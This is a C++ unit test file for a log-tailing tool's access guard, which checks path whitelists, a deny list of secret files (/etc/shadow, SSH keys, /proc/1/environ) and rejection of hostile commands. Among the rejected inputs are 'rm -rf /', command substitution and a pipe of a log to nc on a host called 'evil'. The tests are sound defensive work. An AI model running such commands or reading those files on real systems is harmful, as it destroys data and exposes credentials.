#include <catch2/catch_test_macros.hpp>
#include "access_guard.hpp"
#include "fakes.hpp"
#include <filesystem>
#include <fstream>

using namespace tailf;

TEST_CASE("AccessGuard path whitelist", "[guard]") {
    tailf::testing::TempDir dir("guard");
    std::string log_path = dir.file("app.log");
    std::ofstream(log_path) << "hello\n";

    const std::vector<std::string> allowed = {dir.path().string()};

    SECTION("Path inside an allowed prefix is accepted") {
        auto result = AccessGuard::validate_path(log_path, allowed);
        REQUIRE(result.ok);
        REQUIRE(result.reason == RejectReason::None);
    }

    SECTION("Path outside every prefix is rejected") {
        auto result = AccessGuard::validate_path("/var/tmp/other.log", allowed);
        REQUIRE_FALSE(result.ok);
        REQUIRE(result.reason == RejectReason::PathOutsideWhitelist);
    }

    SECTION("Prefix match is per path component") {
        std::string sibling = dir.path().string() + "_sibling/app.log";
        auto result = AccessGuard::validate_path(sibling, allowed);
        REQUIRE_FALSE(result.ok);
    }

    SECTION("Parent traversal is rejected before resolution") {
        auto result = AccessGuard::validate_path(dir.path().string() + "/../etc/hosts", allowed);
        REQUIRE_FALSE(result.ok);
        REQUIRE(result.reason == RejectReason::PathDenylisted);
    }

    SECTION("Symlink escaping the whitelist is rejected") {
        std::string link = dir.file("escape.log");
        std::filesystem::create_symlink("/etc/hostname", link);
        auto result = AccessGuard::validate_path(link, allowed);
        REQUIRE_FALSE(result.ok);
    }

    SECTION("Empty whitelist accepts nothing") {
        auto result = AccessGuard::validate_path(log_path, {});
        REQUIRE_FALSE(result.ok);
        REQUIRE(result.reason == RejectReason::PathOutsideWhitelist);
    }
}

TEST_CASE("AccessGuard deny-list wins over the whitelist", "[guard]") {
    const std::vector<std::string> everything = {"/"};

    REQUIRE(AccessGuard::validate_path("/etc/shadow", everything, PathStyle::Remote).reason ==
            RejectReason::PathDenylisted);
    REQUIRE(AccessGuard::validate_path("/home/deploy/.ssh/id_rsa", everything, PathStyle::Remote).reason ==
            RejectReason::PathDenylisted);
    REQUIRE(AccessGuard::validate_path("/srv/tls/server.KEY", everything, PathStyle::Remote).reason ==
            RejectReason::PathDenylisted);
    REQUIRE(AccessGuard::validate_path("/proc/1/environ", everything, PathStyle::Remote).reason ==
            RejectReason::PathDenylisted);
    REQUIRE(AccessGuard::validate_path("/var/log/syslog", everything, PathStyle::Remote).ok);
}

TEST_CASE("AccessGuard remote paths", "[guard]") {
    const std::vector<std::string> allowed = {"/var/log/"};

    SECTION("Normalized lexically") {
        REQUIRE(AccessGuard::normalize("/var/log//nginx/./access.log", PathStyle::Remote) ==
                "/var/log/nginx/access.log");
        REQUIRE(AccessGuard::validate_path("/var/log//nginx/./access.log", allowed, PathStyle::Remote).ok);
    }

    SECTION("Relative remote path is rejected") {
        auto result = AccessGuard::validate_path("var/log/syslog", allowed, PathStyle::Remote);
        REQUIRE_FALSE(result.ok);
        REQUIRE(result.reason == RejectReason::PathOutsideWhitelist);
    }
}

TEST_CASE("AccessGuard command validation", "[guard]") {
    SECTION("Allowed verbs pass") {
        REQUIRE(AccessGuard::validate_command("tail -n 0 -F '/var/log/syslog'").ok);
        REQUIRE(AccessGuard::validate_command("find '/var/log' -maxdepth 1 -type f -name '*.log'").ok);
    }

    SECTION("Other verbs are refused") {
        auto result = AccessGuard::validate_command("rm -rf /var/log");
        REQUIRE_FALSE(result.ok);
        REQUIRE(result.reason == RejectReason::CommandVerbNotAllowed);

        REQUIRE(AccessGuard::validate_command("truncate -s 0 /var/log/app.log").reason ==
                RejectReason::CommandVerbNotAllowed);
        REQUIRE(AccessGuard::validate_command("   ").reason == RejectReason::CommandVerbNotAllowed);
    }

    SECTION("Metacharacters are refused anywhere") {
        for (const char* cmd : {"tail -F /var/log/a.log; rm -rf /",
                                "cat /var/log/a.log | nc evil 80",
                                "tail $(whoami)",
                                "tail `id`",
                                "cat /var/log/a.log > /tmp/x",
                                "tail -F /var/log/a.log\nrm x"}) {
            auto result = AccessGuard::validate_command(cmd);
            REQUIRE_FALSE(result.ok);
            REQUIRE(result.reason == RejectReason::CommandHasMetacharacter);
        }
    }
}

TEST_CASE("AccessGuard helpers", "[guard]") {
    SECTION("File size limit") {
        REQUIRE(AccessGuard::check_file_size(100, 100).ok);
        auto result = AccessGuard::check_file_size(101, 100);
        REQUIRE_FALSE(result.ok);
        REQUIRE(result.reason == RejectReason::SizeExceeded);
    }

    SECTION("Quoting keeps embedded quotes inert") {
        REQUIRE(AccessGuard::quote_argument("/var/log/app.log") == "'/var/log/app.log'");
        REQUIRE(AccessGuard::quote_argument("it's.log") == "'it'\\''s.log'");
    }

    SECTION("GuardError carries the reason") {
        GuardError error(GuardResult::reject(RejectReason::SizeExceeded, "too big"));
        REQUIRE(error.reason() == RejectReason::SizeExceeded);
        REQUIRE(std::string(error.what()) == "size-exceeded: too big");
    }
}
